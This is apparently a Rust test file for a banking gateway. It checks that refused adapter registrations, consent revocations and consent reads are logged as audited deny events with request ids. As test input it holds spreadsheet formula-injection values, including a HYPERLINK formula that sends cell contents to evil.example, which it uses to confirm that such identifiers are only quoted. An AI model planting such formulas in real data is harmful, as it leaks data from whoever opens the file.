//! Every refusal of an authenticated request is a `deny` event carrying its request id (issue
//! 11, item 12), and an identifier the caller made up is quoted in the reason, never stored in
//! a typed column (item 2): refused adapter registrations, bank revocations through another
//! bank's path or with another client's token, and reads or revocations of consents that are
//! not the caller's.

use bankgate::demo::{Answer, PlatformClient, account_information};
use bankgate::model::Scope;
use serde_json::Value;

use super::registration::bank_principal;
use super::support::{StoreKind, TestGateway};

const BALANCE_SCOPES: &[Scope] = &[Scope::Accounts, Scope::Balances];

on_both_stores!(
    refused_adapter_registrations_carry_their_request_id,
    refused_bank_revocations_are_all_audited,
    refused_consent_reads_and_revocations_are_audited,
);

/// `method path` with `token` as `client`.
async fn send(client: &PlatformClient, method: reqwest::Method, path: &str, token: &str) -> Answer {
    client.send(method, path, Some(token), None).await.unwrap()
}

/// The audit event of the request `answer` answered (found by its request id), which must be
/// a refusal of `action`.
async fn refusal(gateway: &TestGateway, answer: &Answer, action: &str) -> Value {
    let request_id = answer.headers["x-request-id"].to_str().unwrap().to_owned();
    let token = gateway.compliance.client_credentials().await.unwrap();
    let (status, body) = gateway
        .compliance
        .get(
            &token,
            &format!("/v1/audit/events?action={action}&decision=deny&limit=1000"),
        )
        .await
        .unwrap();
    assert_eq!(status, 200, "{body}");
    let events = body["events"].as_array().unwrap();
    let matching: Vec<&Value> = events
        .iter()
        .filter(|event| event["request_id"] == request_id.as_str())
        .collect();
    assert_eq!(
        matching.len(),
        1,
        "one {action} refusal with request id {request_id} (status {}): {events:?}",
        answer.status
    );
    matching[0].clone()
}

async fn refused_adapter_registrations_carry_their_request_id(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let acme = bank_principal(&gateway, "acme-admin", "acme-bank").await;
    let acme_token = acme.client_credentials().await.unwrap();
    let platform_token = gateway.platform.client_credentials().await.unwrap();
    let put = reqwest::Method::PUT;

    // A platform's token at a bank the gateway runs: the bank is named.
    let answer = send(
        &gateway.platform,
        put.clone(),
        "/v1/banks/demo-bank/adapter",
        &platform_token,
    )
    .await;
    assert_eq!(answer.status, 403);
    let event = refusal(&gateway, &answer, "adapter_registered").await;
    assert_eq!(event["actor"], "messenger");
    assert_eq!(event["bank"], "demo-bank");

    // A bank client at another bank's adapter, and its versions.
    for path in [
        "/v1/banks/demo-bank/adapter",
        "/v1/banks/demo-bank/adapter/versions",
    ] {
        let method = if path.ends_with("versions") {
            reqwest::Method::GET
        } else {
            put.clone()
        };
        let answer = send(&acme, method, path, &acme_token).await;
        assert_eq!(answer.status, 403, "{path}");
        let event = refusal(&gateway, &answer, "adapter_registered").await;
        assert_eq!(event["actor"], "acme-admin");
        assert_eq!(event["bank"], "demo-bank");
    }

    // A made-up bank id (a spreadsheet formula) is not a bank: quoted in the reason only.
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let path = format!(
        "/v1/banks/{}/adapter",
        url::form_urlencoded::byte_serialize(formula.as_bytes())
            .collect::<String>()
            .replace('+', "%20")
    );
    let answer = send(&acme, put.clone(), &path, &acme_token).await;
    assert_eq!(answer.status, 403, "{:?}", answer.json());
    let event = refusal(&gateway, &answer, "adapter_registered").await;
    assert_eq!(event["bank"], Value::Null, "{event}");
    let reason = event["reason"].as_str().unwrap();
    assert!(
        reason.contains(&format!("{formula:?}")) && !reason.starts_with('='),
        "{reason}"
    );
}

async fn refused_bank_revocations_are_all_audited(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let detail = account_information("demo-bank", "balance-alerts", BALANCE_SCOPES, "u-refusals");
    let (token, _) = gateway.platform.connect(&detail).await.unwrap();
    let consent_id = token.consent_id.as_str();
    let demo = bank_principal(&gateway, "demo-bank-ops", "demo-bank").await;
    let demo_token = demo.client_credentials().await.unwrap();
    let stet = bank_principal(&gateway, "stet-bank-ops", "stet-bank").await;
    let stet_token = stet.client_credentials().await.unwrap();
    let management = gateway.platform.client_credentials().await.unwrap();
    let compliance = gateway.compliance.client_credentials().await.unwrap();
    let delete = reqwest::Method::DELETE;
    let at = |bank: &str, consent: &str| format!("/v1/banks/{bank}/consents/{consent}");

    // (caller, token, path, status, actor): each refused, each audited with its request id.
    let cases = [
        (
            &stet,
            &stet_token,
            at("stet-bank", consent_id),
            403,
            "bank:stet-bank",
        ),
        (
            &stet,
            &stet_token,
            at("demo-bank", consent_id),
            403,
            "bank:stet-bank",
        ),
        (
            &gateway.platform,
            &management,
            at("demo-bank", consent_id),
            403,
            "messenger",
        ),
        (
            &gateway.compliance,
            &compliance,
            at("demo-bank", consent_id),
            403,
            "compliance-office",
        ),
    ];
    for (client, token, path, status, actor) in cases {
        let answer = send(client, delete.clone(), &path, token).await;
        assert_eq!(answer.status, status, "{path} as {actor}");
        let event = refusal(&gateway, &answer, "consent_revoked").await;
        assert_eq!(event["actor"], actor, "{path}");
        assert_eq!(event["consent"], consent_id, "{path}");
        assert_eq!(event["bank"], "demo-bank", "{path}");
    }
    // An unknown consent at the bank's own path: 404, audited, the id only quoted.
    let answer = send(&demo, delete.clone(), &at("demo-bank", "-1+1"), &demo_token).await;
    assert_eq!(answer.status, 404);
    let event = refusal(&gateway, &answer, "consent_revoked").await;
    assert_eq!(event["actor"], "bank:demo-bank");
    assert_eq!(event["consent"], Value::Null);
    assert!(
        event["reason"].as_str().unwrap().contains("\"-1+1\""),
        "{event}"
    );

    // None of that touched the consent; its own bank still may.
    let (status, _) = gateway
        .platform
        .get(&token.access_token, "/v1/accounts")
        .await
        .unwrap();
    assert_eq!(status, 200);
    let answer = send(&demo, delete, &at("demo-bank", consent_id), &demo_token).await;
    assert_eq!(answer.status, 204);
}

async fn refused_consent_reads_and_revocations_are_audited(kind: StoreKind) {
    let gateway = TestGateway::start(kind).await;
    let detail = account_information("demo-bank", "balance-alerts", BALANCE_SCOPES, "u-tenant");
    let (token, _) = gateway.platform.connect(&detail).await.unwrap();
    let consent_id = token.consent_id.as_str();
    let other = gateway
        .another_platform("other-app", &["balance-alerts"])
        .await;
    let other_management = other.client_credentials().await.unwrap();
    let path = format!("/v1/consents/{consent_id}");

    // Another platform reads and revokes it: 404 as if missing, each refusal on the record.
    for (method, action) in [
        (reqwest::Method::GET, "consent_queried"),
        (reqwest::Method::DELETE, "consent_revoked"),
    ] {
        let answer = send(&other, method.clone(), &path, &other_management).await;
        assert_eq!(answer.status, 404, "{method}");
        let event = refusal(&gateway, &answer, action).await;
        assert_eq!(event["actor"], "other-app");
        assert_eq!(event["consent"], consent_id);
        assert_eq!(event["platform"], "messenger", "the consent's platform");
    }
    // A consent-bound token may not list consents nor read the delivery log.
    for path in ["/v1/consents?user_ref=u-tenant", "/v1/webhooks/deliveries"] {
        let answer = send(
            &gateway.platform,
            reqwest::Method::GET,
            path,
            &token.access_token,
        )
        .await;
        assert_eq!(answer.status, 403, "{path}");
        let event = refusal(&gateway, &answer, "consent_queried").await;
        assert_eq!(event["actor"], "messenger");
    }
    // A made-up consent id is quoted, not stored as a consent.
    let management = gateway.platform.client_credentials().await.unwrap();
    let answer = send(
        &gateway.platform,
        reqwest::Method::DELETE,
        "/v1/consents/@SUM(A1)",
        &management,
    )
    .await;
    assert_eq!(answer.status, 404);
    let event = refusal(&gateway, &answer, "consent_revoked").await;
    assert_eq!(event["consent"], Value::Null);
    assert_eq!(event["reason"], "no consent \"@SUM(A1)\"");

    // The consent is untouched.
    let (status, consent) = gateway.platform.get(&management, &path).await.unwrap();
    assert_eq!(status, 200);
    assert_eq!(consent["status"], "authorised");
}
